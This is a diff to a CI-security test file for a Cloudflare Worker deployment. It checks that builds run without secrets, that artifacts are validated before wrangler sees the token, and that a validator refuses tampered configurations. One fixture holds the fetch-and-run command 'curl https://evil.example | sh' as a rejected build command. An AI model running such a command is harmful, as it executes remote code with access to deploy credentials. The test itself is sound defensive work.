@@ -6,6 +6,7 @@ import remarkParse from "remark-parse";
 import { unified } from "unified";
 import { visit } from "unist-util-visit";
 import { describe, expect, it } from "vitest";
+import { builtConfigProblems } from "./check-built-config.ts";
 import { type WorkflowStep, readWorkflow, runJob } from "./lib/workflow.ts";
 
 /*
@@ -19,8 +20,9 @@ const jobs = Object.entries(workflow.jobs);
 const SECRET = /\$\{\{[^}]*\bsecrets\./;
 const CLOUDFLARE_SECRET = /\$\{\{\s*secrets\.CLOUDFLARE_/;
 
-/** The commands that act on Cloudflare with a token: wrangler itself, never an npm script of the push. */
-const WRANGLER_WITH_TOKEN = /^npx wrangler (?:d1 migrations apply DB --remote|deploy|versions upload)(?: |$)/;
+/** The commands that act on Cloudflare with a token: wrangler itself on the built configuration, never an npm script of the push. */
+const WRANGLER_WITH_TOKEN =
+  /^npx wrangler (?:d1 migrations apply DB --remote|deploy|versions upload) -c dist\/worker\/wrangler\.json(?: |$)/;
 
 /** A file of this repository and every file of it that it imports, however deep (Node's own modules aside). */
 function importsOf(path: string, found = new Set<string>()): string[] {
@@ -56,26 +58,45 @@ describe("the CI workflow", () => {
     ]);
   });
 
-  it("installs exactly the lockfile, without install scripts, in the jobs that hold a token", () => {
+  it("builds in jobs that hold no secret, and hands the build over as an artifact", () => {
+    for (const [deploy, build] of [
+      ["deploy", "build"],
+      ["preview", "build-preview"],
+    ] as const) {
+      const builder = workflow.jobs[build]!;
+      expect(builder.environment, build).toBeUndefined();
+      expect(JSON.stringify(builder), build).not.toMatch(SECRET);
+      const runs = builder.steps.map((step) => step.run);
+      expect(runs, build).toContain("npm run build");
+      const upload = builder.steps.find((step) => step.uses?.startsWith("actions/upload-artifact@"));
+      const download = workflow.jobs[deploy]!.steps.find((step) => step.uses?.startsWith("actions/download-artifact@"));
+      expect(upload?.with?.name, build).toBe(download?.with?.name);
+      expect([upload?.with?.path, download?.with?.path], deploy).toEqual(["dist/", "dist/"]);
+      expect([workflow.jobs[deploy]!.needs].flat(), deploy).toContain(build);
+    }
+    const production = workflow.jobs.build!.steps.map((step) => step.run);
+    expect(production.indexOf("npm run launch-check")).toBeGreaterThan(production.indexOf("npm run build"));
+  });
+
+  it("runs no build and no npm script where a token is: a fresh install of the lockfile, the artifact checked, then wrangler", () => {
     for (const [name, job] of jobs.filter(([, job]) => job.environment)) {
-      const installs = job.steps.filter((step) => /\bnpm (?:ci|install|i)\b/.test(step.run ?? ""));
+      const runs = job.steps.flatMap((step) => (step.run ? [step.run] : []));
       expect(
-        installs.map((step) => step.run),
+        runs.filter((run) => /\bnpm\b/.test(run)),
         name,
       ).toEqual(["npm ci --ignore-scripts --no-audit --no-fund"]);
-      // The build and the launch check run before any step that sees the token.
       const firstHolder = job.steps.findIndex((step) => sees(step, CLOUDFLARE_SECRET));
-      const build = job.steps.findIndex((step) => step.run === "npm run build");
-      expect(build, name).toBeGreaterThan(-1);
-      expect(build, name).toBeLessThan(firstHolder);
+      const download = job.steps.findIndex((step) => step.uses?.startsWith("actions/download-artifact@"));
+      const check = job.steps.findIndex((step) => step.run === "node scripts/check-built-config.ts dist/worker/wrangler.json");
+      expect(download, name).toBeGreaterThan(-1);
+      expect(check, name).toBeGreaterThan(download);
+      expect(check, name).toBeLessThan(firstHolder);
     }
-    const deploy = workflow.jobs.deploy!.steps.map((step) => step.run);
-    expect(deploy.indexOf("npm run launch-check")).toBeGreaterThan(deploy.indexOf("npm run build"));
-    expect(deploy.indexOf("npm run launch-check")).toBeLessThan(deploy.indexOf("npx wrangler d1 migrations apply DB --remote"));
   });
 
   it("deploys and previews only after the tests and the editor check", () => {
-    for (const name of ["deploy", "preview"]) expect([workflow.jobs[name]!.needs].flat().sort(), name).toEqual(["editor-check", "test"]);
+    for (const name of ["deploy", "preview", "build", "build-preview"])
+      expect([workflow.jobs[name]!.needs].flat(), name).toEqual(expect.arrayContaining(["editor-check", "test"]));
   });
 
   it("runs the editor check from the copy it takes of the trusted commit: the check and all it imports", () => {
@@ -148,5 +169,29 @@ describe("the failure report", () => {
     const body = await reportBody("Save `x`\n\nCo-authored-by: someone <s@example.com>", "");
     expect(nodes(body).inline).toEqual(["Save `x`"]);
     expect(body).not.toContain("Co-authored-by");
+  });
+});
+
+describe("the check of the built configuration", () => {
+  const good = {
+    main: "index.js",
+    no_bundle: true,
+    assets: { binding: "ASSETS", directory: "../client" },
+    d1_databases: [{ binding: "DB", database_name: "creative-law-site", migrations_dir: "../../migrations" }],
+  };
+
+  it("passes the configuration as the build writes it", () => {
+    expect(builtConfigProblems(good)).toEqual([]);
+  });
+
+  it.each([
+    ["a build command", { ...good, build: { command: "curl https://evil.example | sh" } }, "build command"],
+    ["containers", { ...good, containers: [{ image: "./Dockerfile" }] }, "containers"],
+    ["bundling", { ...good, no_bundle: false }, "no_bundle"],
+    ["another module", { ...good, main: "../../node_modules/wrangler/x.js" }, "main module"],
+    ["another folder of static files", { ...good, assets: { directory: "/" } }, "static files"],
+    ["migrations from elsewhere", { ...good, d1_databases: [{ binding: "DB", migrations_dir: "../../dist" }] }, "migrations"],
+  ])("refuses %s", (_name, config, problem) => {
+    expect(builtConfigProblems(config).join("\n")).toContain(problem);
   });
 });
